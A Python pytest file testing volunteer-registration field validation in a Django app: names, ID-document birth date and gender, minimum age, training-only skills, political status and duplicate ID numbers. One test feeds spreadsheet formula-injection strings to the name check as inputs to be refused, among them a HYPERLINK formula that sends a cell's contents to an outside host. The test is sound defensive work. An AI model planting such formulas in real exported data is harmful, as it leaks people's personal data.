"""Each rule of a volunteer's fields, tested once, at its one function (volunteers.validation).

The registration page, the API and the import call these functions; their own tests check
only that a refusal reaches the user on that surface.
"""

from __future__ import annotations

import datetime as dt

import pytest
from django.utils import translation

from zhiyuan.core.errors import DomainError, ValidationFailed
from zhiyuan.testing.factories import id_number
from zhiyuan.volunteers import validation
from zhiyuan.volunteers.idcard import IdDocument, IdType
from zhiyuan.volunteers.models import Skill
from zhiyuan.volunteers.services import register_volunteer

TODAY = dt.date(2026, 12, 6)


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


def refusal(func, *args, **kwargs) -> DomainError:
    with pytest.raises(DomainError) as err:
        func(*args, **kwargs)
    return err.value


@pytest.mark.parametrize("name", ["王", "王" * 51, "   "])
def test_a_name_has_2_to_50_characters(name):
    assert refusal(validation.real_name, name).field == "real_name"


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://x?d="&F2,"点")', "+86", "-1", "@SUM(A1)", "\t=1"]
)
def test_a_name_that_a_spreadsheet_would_run_as_a_formula_is_refused(name):
    error = refusal(validation.real_name, name)
    assert "cannot start with" in str(error.message)


def test_a_name_keeps_one_space_between_words():
    assert validation.real_name("  阿依  古丽 ") == "阿依 古丽"


def _doc(birth=None, gender=None) -> IdDocument:
    return IdDocument(id_type=IdType.PASSPORT, number="E1", birth_date=birth, gender=gender)


def test_birth_date_and_gender_come_from_the_document_where_it_holds_them():
    doc = _doc(dt.date(1990, 1, 2), "F")
    assert validation.birth_and_gender(doc, birth_date=None, gender=None, today=TODAY) == (
        dt.date(1990, 1, 2),
        "F",
    )
    assert (
        refusal(validation.birth_and_gender, doc, birth_date=None, gender="M", today=TODAY).field
        == "gender"
    )


def test_a_document_without_them_needs_them_entered():
    assert (
        refusal(validation.birth_and_gender, _doc(), birth_date=None, gender="F", today=TODAY).field
        == "birth_date"
    )
    assert (
        refusal(
            validation.birth_and_gender,
            _doc(),
            birth_date=dt.date(1990, 1, 2),
            gender=None,
            today=TODAY,
        ).field
        == "gender"
    )


def test_volunteers_are_at_least_eight_years_old():
    young = TODAY - dt.timedelta(days=7 * 365)
    error = refusal(
        validation.birth_and_gender, _doc(young, "F"), birth_date=None, gender=None, today=TODAY
    )
    assert error.field == "id_number"
    assert "at least 8" in str(error.message)


@pytest.mark.django_db
def test_a_skill_that_needs_training_is_declarable_only_when_certified():
    first_aid = Skill.objects.get(code="first_aid")
    guide = Skill.objects.get(code="guide")
    first_aid.requires_training = True
    assert validation.declarable_skills([guide, guide]) == [guide]
    assert refusal(validation.declarable_skills, [guide, first_aid]).field == "skills"
    assert validation.declarable_skills([first_aid], held=[first_aid]) == [first_aid]


def test_political_status_is_one_of_the_choices():
    assert validation.political_status("masses") == "masses"
    assert refusal(validation.political_status, "anarchist").field == "political_status"


@pytest.mark.django_db
def test_one_document_registers_one_volunteer(cast):
    validation.not_registered("no-such-index")
    error = refusal(validation.not_registered, cast.carol.id_number_index)
    assert error.code == "duplicate_id_number"
    assert validation.registered_indexes(
        [cast.carol.id_number_index, cast.dave.id_number_index, "x"]
    ) == {cast.carol.id_number_index, cast.dave.id_number_index}


@pytest.mark.django_db
def test_the_service_itself_refuses_a_training_only_skill(cast):
    """Not only the form and the API: a new caller of the service cannot forget the rule."""
    with pytest.raises(ValidationFailed) as err:
        register_volunteer(
            actor=cast.alice,
            real_name="王小明",
            id_type="resident_id",
            id_number=id_number(300),
            phone="13900000300",
            community_id=cast.a1.pk,
            skills=["first_aid"],
            consent=True,
        )
    assert "skills" in err.value.errors
